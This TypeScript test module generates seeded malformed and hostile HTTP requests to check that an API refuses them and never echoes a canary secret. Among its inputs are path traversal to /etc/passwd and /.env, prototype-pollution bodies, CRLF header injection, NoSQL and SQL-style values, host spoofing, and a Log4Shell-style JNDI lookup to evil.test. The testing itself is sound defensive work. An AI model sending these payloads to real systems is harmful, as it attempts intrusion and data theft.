/**
 * Requests that no honest caller sends, made from docs/openapi.yaml and a seed. None of them may be carried out: what
 * would write has one thing wrong with it, and what is allowed only looks.
 */
import { gzipSync } from 'node:zlib';
import { document, routeKeys } from '../lambda/openapi.ts';

/** Of which scopes the request's key is; `strange` opens nothing, `none` is not sent. */
export type KeyKind = 'every' | 'read' | 'sync' | 'strange' | 'none' | 'malformed';

export interface OddRequest {
  readonly what: string;
  readonly method: string;
  /** As it stands in the request line. */
  readonly path: string;
  readonly headers: Readonly<Record<string, string | string[]>>;
  readonly body?: Buffer;
  readonly key: KeyKind;
  /** The statuses of which one is right, with a key that opens everything. */
  readonly expects: readonly number[];
}

/** Stands in bodies where secrets do: no answer may repeat it. */
export const canary = 'CANARY-5f1d0c';
/** A connection that is there, without credentials and off the schedule; and one that is not. */
export const present = 'seen';
const absent = 'nobody';
const runId = '20261124T010203004Z-k3f9x0';

/** Mulberry32: the same requests for the same seed. */
export function randomOf(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

type Random = () => number;
const one = <Item>(random: Random, items: readonly Item[]): Item =>
  items[Math.floor(random() * items.length)] as Item;
const upTo = (random: Random, most: number): number => 1 + Math.floor(random() * most);

const pathOf = (template: string, values: Readonly<Record<string, string>> = {}): string =>
  template.replace(/\{(\w+)\}/gu, (_, name: string) => {
    const usual: Record<string, string> = { connectionId: present, purpose: 'device-sync', runId };
    return values[name] ?? usual[name] ?? '';
  });

const operations = routeKeys.map((key) => {
  const [method = '', template = ''] = key.split(' ');
  const described = document.paths[template]?.[method.toLowerCase()];
  return { key, method, template, takesBody: described?.requestBody !== undefined };
});
const reads = operations.filter(({ method }) => method === 'GET');
const takers = operations.filter(({ takesBody }) => takesBody);
const bodyOf = (template: string): Record<string, unknown> => {
  if (template.endsWith('/runs')) return { apply: false };
  if (template.endsWith('/addigy-key')) return { apiKey: canary };
  if (template.endsWith('{purpose}'))
    return { username: `${canary}@acme.example`, secret: canary, trackingIdentifier: canary };
  return { name: 'Other' };
};

type Draft = Omit<OddRequest, 'key' | 'headers' | 'what'> & { readonly headers?: OddRequest['headers'] };
const json = { 'content-type': 'application/json' };

/** How a path can be no path of ours. */
const bendings: ReadonlyArray<(path: string, random: Random) => string> = [
  (path) => `${path}/`,
  (path) => `/${path}`,
  (path) => path.replace('/connections', '//connections'),
  (path) => path.replace('/connections', '/Connections'),
  (path) => path.toUpperCase(),
  (path) => `/v1${path}`,
  (path) => `${path}/extra`,
  (path) => `${path}/..`,
  (path) => `/..${path}`,
  (path) => `/%2e%2e${path}`,
  (path) => path.replace('/connections', '/connections/.'),
  (path) => path.replaceAll('/', '%2F'),
  (path) => `${path}%2F`,
  (path) => `${path};v=1/x`,
  (path) => `${path}/%00`,
  (path) => `${path}/%ff`,
  (path) => `${path}/%`,
  (path) => `${path}/%zz`,
  (path, random) => `${path}/${'a'.repeat(upTo(random, 6_000))}`,
  (path, random) => `/${'x/'.repeat(upTo(random, 500))}${path}`,
  () => '/',
  () => '/favicon.ico',
  () => '/.env',
  () => '/connections/../../etc/passwd/x/y/z/q',
  () => '/$default',
  () => '/__proto__',
  () => '/constructor/prototype',
  (path) => `http://elsewhere.test${path}`,
];

function unknownRoute(random: Random): Draft {
  const { method, template } = one(random, operations);
  const path = one(random, bendings)(pathOf(template), random);
  return { method, path, expects: [400, 404] };
}

function unknownMethod(random: Random): Draft {
  const { template } = one(random, operations);
  const known = operations.filter((other) => other.template === template).map(({ method }) => method);
  const method = one(
    random,
    ['GET', 'PUT', 'POST', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'TRACE', 'PROPFIND', 'LINK', 'PURGE'].filter(
      (name) => !known.includes(name),
    ),
  );
  const headers =
    method === 'OPTIONS' ? { origin: 'https://evil.test', 'access-control-request-method': 'PUT' } : {};
  return { method, path: pathOf(template), headers, expects: [404] };
}

const oddNames = [
  'Acme',
  'a_b',
  '-a',
  'a-',
  'a.b',
  '%20',
  '%00',
  'a%00b',
  '%2e%2e',
  '%2E',
  '..%3f',
  '%F0%9F%8D%8F',
  '%C3%A9',
  '__proto__',
  'a%0d%0aset-cookie:%20x=1',
  '%7B%7D',
  '$ne',
  '*',
  '%27%3B--',
  '%25',
  'a%5Cb',
  "a'b",
  '%E2%80%AE',
];
/** All of 64 and more characters: no id has so many. */
const oddName = (random: Random): string =>
  random() < 0.15 ? 'a'.repeat(63 + upTo(random, 2_000)) : one(random, oddNames);

function oddParameter(random: Random): Draft {
  const operation = one(random, operations);
  const name = one(
    random,
    [...operation.template.matchAll(/\{(\w+)\}/gu)].map(([, named = '']) => named),
  );
  if (name === undefined) return unknownRoute(random);
  const path = pathOf(operation.template, { [name]: oddName(random) });
  const body = operation.takesBody ? Buffer.from(JSON.stringify(bodyOf(operation.template))) : undefined;
  return {
    ...{ method: operation.method, path, expects: [400] },
    ...(body === undefined ? {} : { body, headers: json }),
  };
}

function absentThing(random: Random): Draft {
  // A declaration of what is absent would create it.
  const { method, template, takesBody } = one(
    random,
    operations.filter(({ key }) => key !== 'GET /connections' && key !== 'PUT /connections/{connectionId}'),
  );
  // A key is kept of what is carried out, and this is not.
  const headers: Record<string, string> = random() < 0.3 ? { 'idempotency-key': `key ${random()}` } : {};
  const draft = { method, path: pathOf(template, { connectionId: absent }), headers, expects: [404] };
  return takesBody
    ? { ...draft, headers: { ...json, ...headers }, body: Buffer.from(JSON.stringify(bodyOf(template))) }
    : draft;
}

const oddQueries = [
  'limit=0',
  'limit=101',
  'limit=-1',
  'limit=1e1',
  'limit=',
  'limit=%20',
  'limit=5&limit=5',
  'limit[]=5',
  'limit=9'.padEnd(2_000, '9'),
  'cursor=%00',
  'cursor=e30',
  'cursor=AAAA',
  `cursor=${'A'.repeat(1_500)}`,
  'cursor=..%2F..',
  'cursor=W10',
  '__proto__=1',
  'constructor=1',
  'page=2',
  'force=true',
  'a'.repeat(3_000),
  'limit=5;drop',
  'cursor[$ne]=',
  '%E0%A4%A=1',
  'apply=yes',
  'planId=p',
  'items=drop',
  'limit=100&items=keep',
  Array.from({ length: 300 }, (_, at) => `q${at}=1`).join('&'),
];
/** Those read no query, so none is wrong there. */
const isDeaf = (template: string, method: string): boolean =>
  method === 'GET' && !/^\/connections$|runs(?:\/\{runId\})?$/u.test(template);

function oddQuery(random: Random): Draft {
  const { method, template } = one(random, [
    ...reads.filter(({ template }) => !isDeaf(template, 'GET')),
    ...operations.filter(({ key }) => key === 'DELETE /connections/{connectionId}'),
  ]);
  const query = one(
    random,
    // A percentage of what is let go is no page's length.
    oddQueries.filter((text) => method === 'GET' || !/^limit=(?:0|5)(?:$|&)/u.test(text)),
  );
  return { method, path: `${pathOf(template)}?${query}`, expects: [400] };
}

const deep = (open: string, close: string, levels: number): string =>
  `${open.repeat(levels)}1${close.repeat(levels)}`;

/** Bodies that are wrong for every operation that takes one. `key` is a field that it knows. */
const wrongBodies: ReadonlyArray<
  readonly [(known: Record<string, unknown>, random: Random) => string | Buffer, number]
> = [
  [() => '', 400],
  [() => '{', 400],
  [() => '{"', 400],
  [(known, random) => JSON.stringify(known).slice(0, -upTo(random, 5)), 400],
  [(known) => `${JSON.stringify(known)}x`, 400],
  [(known) => `${JSON.stringify(known)}${JSON.stringify(known)}`, 400],
  [() => 'null', 400],
  [() => 'true', 400],
  [() => `"${canary}"`, 400],
  [() => '[]', 400],
  [() => '1e999', 400],
  [() => '-0', 400],
  [() => 'NaN', 400],
  [(known) => `[${JSON.stringify(known)}]`, 400],
  [(_, random) => deep('[', ']', upTo(random, 20_000)), 400],
  [(_, random) => deep('{"a":', '}', upTo(random, 9_000)), 400],
  [(known) => JSON.stringify({ ...known, nmae: canary }), 400],
  [(known) => JSON.stringify(known).replace(/\}$/u, ',"__proto__":{"admin":true}}'), 400],
  [(known) => JSON.stringify(known).replace(/\}$/u, ',"constructor":{"prototype":{"admin":true}}}'), 400],
  [(known) => JSON.stringify(known).replace(/\}$/u, ',"prototype":1}'), 400],
  [(known) => JSON.stringify(known).replace(/\}$/u, ',"\\u005f_proto__":1}'), 400],
  [(known) => JSON.stringify(Object.fromEntries(Object.keys(known).map((name) => [name, 7]))), 400],
  [
    (known) => JSON.stringify(Object.fromEntries(Object.keys(known).map((name) => [name, { $ne: canary }]))),
    400,
  ],
  [(known) => JSON.stringify(Object.fromEntries(Object.keys(known).map((name) => [name, [canary]]))), 400],
  [(known) => JSON.stringify(known).replace(/\}$/u, ',"x":"\\ud83c"}'), 400],
  [(known) => JSON.stringify(known).replace(/\}$/u, ',"x":"a\\u0000b"}'), 400],
  [(known) => JSON.stringify(known).replace(/\}$/u, `,"x":${'9'.repeat(5_000)}}`), 400],
  [(known) => Buffer.concat([Buffer.from(JSON.stringify(known)), Buffer.from([0xff, 0xfe])]), 400],
  [() => Buffer.from([0xc3, 0x28, 0xa0, 0xa1]), 400],
  [(known) => Buffer.from(JSON.stringify(known), 'utf16le'), 400],
  [(known) => JSON.stringify({ ...known, x: 'y'.repeat(70_000) }), 413],
  [(_, random) => Buffer.alloc(65_537 + upTo(random, 200_000), 0x20), 413],
];
const wrongTypes = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'json',
  'application/jsonp',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'application/',
  'application/octet-stream',
  'text/json',
  '*/*',
  'application/json, text/plain',
];

function wrongBody(random: Random): Draft {
  const { method, template } = one(random, takers);
  const [make, status] = one(random, wrongBodies);
  const made = Buffer.from(make(bodyOf(template), random));
  // A run may be asked for without a body; this one lacks credentials.
  const isNothing = made.byteLength === 0 && method === 'POST';
  return { method, path: pathOf(template), headers: json, body: made, expects: [isNothing ? 409 : status] };
}

function wrongType(random: Random): Draft {
  const { method, template } = one(random, takers);
  const known = JSON.stringify(bodyOf(template));
  const way = upTo(random, 3);
  if (way === 1) {
    const headers = { 'content-type': one(random, wrongTypes) };
    return { method, path: pathOf(template), headers, body: Buffer.from(known), expects: [415] };
  }
  const encoding = one(random, ['gzip', 'br', 'deflate', 'x', 'gzip, identity']);
  const body = encoding === 'gzip' ? gzipSync(known) : Buffer.from(known);
  return {
    ...{ method, path: pathOf(template), body, expects: [415] },
    headers: { ...json, 'content-encoding': encoding },
  };
}

/** Of settings that are not those that are there: nothing of theirs is overwritten unseen. */
function blindDeclaration(random: Random): Draft {
  const [header, status] = one(random, [
    [{}, 428],
    [{ 'if-match': '"x-1"' }, 412],
    [{ 'if-match': 'W/"x-1"' }, 412],
    [{ 'if-match': `"${'x'.repeat(900)}", "y"` }, 412],
    [{ 'if-none-match': '*' }, 412],
    [{ 'if-match': 'x-1' }, 400],
    [{ 'if-match': '"x", *' }, 400],
    [{ 'if-match': '' }, 400],
    [{ 'if-none-match': '"x"' }, 400],
    [{ 'if-match': '*', 'if-none-match': '*' }, 400],
  ] as const satisfies ReadonlyArray<readonly [Record<string, string>, number]>);
  const body = Buffer.from(JSON.stringify({ name: `Other ${random()}` }));
  return {
    ...{ method: 'PUT', path: pathOf('/connections/{connectionId}'), body, expects: [status] },
    headers: { ...json, ...header },
  };
}

const oddKeys: ReadonlyArray<(random: Random) => string> = [
  () => '',
  (random) => 'k'.repeat(255 + upTo(random, 3_000)),
  () => 'a\tb',
  () => '\u00e9t\u00e9',
  () => 'a\u0080b',
];

/** With a key that is one, these would be refused for another reason: here it is the key. */
function oddIdempotencyKey(random: Random): Draft {
  const { method, template } = one(
    random,
    operations.filter((operation) => operation.method === 'POST'),
  );
  const headers = { 'idempotency-key': one(random, oddKeys)(random) };
  return { method, path: pathOf(template), headers, expects: [400] };
}

const bystanders: ReadonlyArray<(random: Random) => Record<string, string | string[]>> = [
  () => ({ 'x-http-method-override': 'DELETE' }),
  () => ({ 'x-original-url': '/admin', 'x-rewrite-url': '/admin' }),
  () => ({ 'x-forwarded-for': '127.0.0.1', 'x-forwarded-host': 'evil.test', forwarded: 'for=127.0.0.1' }),
  () => ({ accept: 'text/html;q=0.9,*/*;q=0.1' }),
  () => ({ 'if-none-match': '*', 'if-match': '"x"', range: 'bytes=0-1' }),
  () => ({ cookie: `__proto__=1; a=${canary}` }),
  () => ({ 'user-agent': `\${jndi:ldap://evil.test/${canary}}` }),
  () => ({ origin: 'https://evil.test', referer: 'https://evil.test/' }),
  () => ({ 'content-type': 'application/json;'.padEnd(3_000, 'x') }),
  (random) =>
    Object.fromEntries(Array.from({ length: upTo(random, 150) }, (_, at) => [`x-own-${at}`, String(at)])),
  () => ({ 'x-repeated': Array.from({ length: 20 }, (_, at) => String(at)) }),
  () => ({ host: 'evil.test' }),
];

/** Looks only: what stands beside it changes nothing. */
function bystanding(random: Random): Draft {
  const { method, template } = one(random, reads);
  const isLess = template.includes('{purpose}') || template.includes('{runId}');
  // Neither an API user nor a run is there; suggestions want credentials.
  const status = template.endsWith('suggestions') ? 409 : isLess ? 404 : 200;
  return { method, path: pathOf(template), headers: one(random, bystanders)(random), expects: [status] };
}

function tooMuchHeader(random: Random): Draft {
  const { method, template } = one(random, reads);
  const headers = { 'x-much': 'y'.repeat(10_240 + upTo(random, 3_000)) };
  return { method, path: pathOf(template), headers, expects: [431] };
}

/** Most are answered by the router; a door costs ten times as much, and half a thousand of each kind are many. */
const tricks: ReadonlyArray<readonly [weight: number, make: (random: Random) => Draft]> = [
  [44, unknownRoute],
  [36, unknownMethod],
  [4, oddParameter],
  [2, absentThing],
  [3, oddQuery],
  [4, wrongBody],
  [2, wrongType],
  [2, blindDeclaration],
  [1, oddIdempotencyKey],
  [1, bystanding],
  [2, tooMuchHeader],
];
const drawn = tricks.flatMap(([weight, make]) => Array.from({ length: weight }, () => make));

export function oddRequest(random: Random): OddRequest {
  const make = one(random, drawn);
  const key: KeyKind =
    random() < 0.5
      ? 'every'
      : one(random, ['read', 'sync', 'strange', 'malformed', 'none', 'none', 'none', 'none'] as const);
  return { headers: {}, ...make(random), what: make.name, key };
}

/** One of each answer that a few thousand drawn requests can miss. */
export const seldomAnswered: readonly OddRequest[] = [
  {
    ...{ what: 'suggestions without credentials', key: 'every', expects: [409] },
    ...{ method: 'GET', path: pathOf('/connections/{connectionId}/companies/suggestions'), headers: {} },
  },
  {
    ...{ what: 'a declaration that names no version', key: 'every', expects: [428] },
    ...{ method: 'PUT', path: pathOf('/connections/{connectionId}'), headers: json },
    body: Buffer.from(JSON.stringify({ name: 'Another' })),
  },
];
